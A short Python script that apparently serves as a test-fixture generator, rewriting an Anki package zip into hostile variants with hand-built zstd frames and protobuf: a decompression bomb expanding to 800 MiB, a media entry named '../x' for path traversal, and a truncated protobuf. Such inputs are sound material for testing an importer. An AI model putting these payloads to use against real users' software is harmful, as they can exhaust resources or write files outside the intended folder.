"""Turns a package in Anki's current format into a hostile one, rewriting one entry of its zip
with zstd frames and protobuf written here by hand (no compressor needed: raw and RLE blocks).

usage: anki_hostile.py SOURCE OUT KIND
  bomb      collection.anki21b becomes a 25 KB frame that expands to 800 MiB of zeros
  dotdot    the media map names its first file "../x"
  badproto  the media map is a protobuf cut short inside a field
Prints {"kind": KIND} as JSON.
"""
import json
import sys
import zipfile

BLOCK = 128 * 1024


def frame(blocks):
    """A zstd frame: magic, a header with a 128 KiB window and no content size, then the blocks."""
    out = bytearray(b"\x28\xb5\x2f\xfd\x00\x38")
    for i, (kind, size, payload) in enumerate(blocks):
        last = 1 if i == len(blocks) - 1 else 0
        header = (size << 3) | (kind << 1) | last
        out += header.to_bytes(3, "little") + payload
    return bytes(out)


def raw(data):
    return frame([(0, len(data), data)]) if data else frame([(0, 0, b"")])


def varint(n):
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def field(number, payload):
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def main():
    source, out, kind = sys.argv[1], sys.argv[2], sys.argv[3]
    replaced = {}
    if kind == "bomb":
        replaced["collection.anki21b"] = frame([(1, BLOCK, b"\x00")] * (800 * 8))
    elif kind == "dotdot":
        entry = field(1, b"../x") + bytes([0x10, 4]) + field(3, bytes(20))
        replaced["media"] = raw(field(1, entry))
    elif kind == "badproto":
        replaced["media"] = raw(field(1, field(1, b"a.png"))[:-2])
    else:
        raise SystemExit("unknown kind " + kind)
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, replaced.get(info.filename, src.read(info.filename)))
    print(json.dumps({"kind": kind}))


main()
